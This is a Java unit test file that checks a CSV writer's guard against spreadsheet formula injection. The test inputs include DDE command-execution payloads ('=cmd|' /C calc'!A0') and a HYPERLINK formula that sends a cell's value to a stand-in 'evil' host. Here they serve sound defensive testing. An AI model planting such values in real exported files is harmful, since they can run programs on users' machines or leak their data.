package dev.crossdock.format;

import static org.assertj.core.api.Assertions.assertThat;

import dev.crossdock.flow.Origin;
import dev.crossdock.flow.Record;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** CSV for people: what a spreadsheet program would compute is shown as it is. */
class UnformulatedTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil?x=\"&A1)",
                "+1+1",
                "+cmd|x",
                "-2+3+cmd|' /C calc'!A0",
                "-cmd",
                "@SUM(1,1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1",
                "  =1+1",
                "\uFF1D1+1",
                "\uFF0B1+1",
                "\uFF0D1+1",
                "\uFF20SUM(1)",
                "+47-22-33",
                "=",
                "-",
                "+"
            })
    void whatBeginsAFormulaGetsAQuoteBeforeIt(String text) {
        assertThat(Unformulated.plain(text)).startsWith("'");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-5",
                "+5",
                "-1.50",
                "-1,50",
                "+4722334455",
                "-1e5",
                "1=1",
                "a@b.no",
                "A-1",
                "plain",
                "",
                "'",
                "1-2",
                "a;b",
                "a - b"
            })
    void numbersAndOtherTextsStayAsTheyAre(String text) {
        assertThat(Unformulated.plain(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"x;=1+1", "x,=1+1", "x\n=1+1", "x\"; @SUM(1)", "x\t=1"})
    void behindWhatAnotherProgramTakesForADelimiterThereIsNoFormulaEither(String text) {
        assertThat(Unformulated.plain(text)).matches("(?s)x.*[;,\\n\\t ]'[=@].*");
    }

    private static String csv(Map<String, Object> options, Record record) {
        var out = new ByteArrayOutputStream();
        try (var writer = new CsvFormat().writer(out, new Options("csv", options))) {
            writer.write(record);
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    @Test
    void onlyAFileForPeopleIsGuarded() {
        var row = new LinkedHashMap<String, Object>();
        row.put("=name", "=1+1");
        row.put("n", new BigDecimal("-5"));
        row.put("list", List.of("=x"));
        var record = Record.of(row, new Origin("p", 1, 0));
        assertThat(csv(Map.of(), record)).isEqualTo("=name,n,list\r\n=1+1,-5,\"[\"\"=x\"\"]\"\r\n");
        assertThat(csv(Map.of("guard", true), record)).isEqualTo("'=name,n,list\r\n'=1+1,-5,\"[\"\"=x\"\"]\"\r\n");
        assertThat(csv(Map.of("guard", true, "columns", List.of("=name", "n", "list")), record))
                .startsWith("'=name,n,list\r\n'=1+1,");
    }
}
